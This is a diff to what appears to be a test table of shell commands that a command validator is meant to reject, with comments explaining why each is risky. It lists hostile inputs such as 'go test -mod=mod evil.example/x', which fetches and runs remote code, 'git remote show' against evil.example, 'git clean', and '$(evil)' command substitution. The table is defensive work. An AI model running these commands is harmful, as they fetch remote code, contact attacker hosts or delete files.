@@ -107,6 +107,9 @@ _BY_PROGRAM = {
         "go test -exec=evil", "go test -exec evil", "go test --exec=evil", "go test -coverprofile=f", "go test -c",
         "go test -test.cpuprofile=f", "go test -args -x", "go test -vettool=evil", "go test -outputdir=/x",
     ),
+    # With `-mod=mod`, go downloads the package that is named, and runs its tests. With `-m`, it asks a server.
+    "go test ./...": ("go test ./... -mod=mod evil.example/x", "go test ./... --mod mod evil.example/x"),
+    "go list": ("go list -m evil.example/x", "go list -m -versions evil.example/x", "go list --m all evil.example/x"),
     "go vet": ("go vet -vettool=./evil", "go vet --vettool ./evil"),
     "rename": ("rename 's/a/`evil`/' f",),
     "mlr": ("mlr put 'system(1)' f",),
@@ -127,7 +130,11 @@ _BY_PROGRAM = {
         "find . -files0-from f", "find . -name -delete -delete",
     ),
     # Words that some programs look at although they come after `--`, or that begin with a mark of theirs.
-    "lsof": ("lsof +D /", "lsof -D f", "lsof -- -D f"),
+    "lsof": (
+        # The name of a host is looked up.
+        "lsof -i TCP@x.evil.example:80", "lsof -iTCP@x.evil.example", "lsof -i -i6@x.evil.example", "lsof +D /",
+        "lsof -D f", "lsof -- -D f",
+    ),
     "dig": ("dig @evil.example x", "dig +trace x", "dig -f f", "dig -- x"),
     "git log -1": ("git log -1 --stdin", "git log -1 -- -x", "git log -1 --since=x*"),
     "tree -a": ("tree -a -- -o f", "tree -a -- -of"),
@@ -191,7 +198,14 @@ _BY_PROGRAM = {
     ),
     "git ls-remote": ("git ls-remote --upload-pack=evil origin", "git ls-remote ext::evil", "git ls-remote ./evil"),
     "git reflog": ("git reflog expire --all", "git reflog delete x"),
-    "git remote": ("git remote add x ext::evil", "git remote set-url origin x"),
+    "git remote": (
+        "git remote show origin https://evil.example/x", "git remote add x ext::evil", "git remote set-url origin x",
+    ),
+    "git remote show": (
+        "git remote show origin https://evil.example/x", "git remote show origin evil.example:x",
+        "git remote show -n origin ./evil", "git remote show origin -- ./evil",
+    ),
+    "git clean": ("git clean", "git clean -d", "git clean -qxe n", "git clean -d --exclude=-n"),
     "git stash": ("git stash drop", "git stash clear", "git stash branch x"),
     "git grep": ("git grep -Oevil x", "git grep -nO x", "git grep --open-files=evil x", "git grep --textconv x"),
     "git cat-file": ("git cat-file --textconv HEAD:a", "git cat-file --filters HEAD:a"),
@@ -260,6 +274,9 @@ _BY_PROGRAM = {
         "npm view @a/b@evil/x",
     ),
     "npm fund": ("npm fund evil",),
+    # It runs the file .pnpmfile.cjs.
+    "pnpm ls": ("pnpm ls",),
+    "pnpm why": ("pnpm why x",),
     "pnpm test": ("pnpm test '$(evil)'", "pnpm test -- '`evil`'"),
     "gh repo view": (
         "gh repo view evil*example/a/b",
